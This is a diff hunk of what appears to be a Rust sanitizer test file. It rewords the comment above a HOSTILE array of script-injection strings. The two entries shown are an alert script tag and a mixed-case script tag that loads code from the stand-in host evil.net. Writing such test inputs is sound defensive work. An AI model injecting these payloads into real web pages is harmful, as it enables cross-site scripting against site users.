@@ -41,7 +41,7 @@ fn pictures_of_other_places_are_left_out() {
     );
 }
 
-/// Each line is one way to run a script or to load something from a rich text.
+/// Each line is an attempt to run a script or to load something from rich text.
 const HOSTILE: [&str; 46] = [
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.net></sCrIpT>",
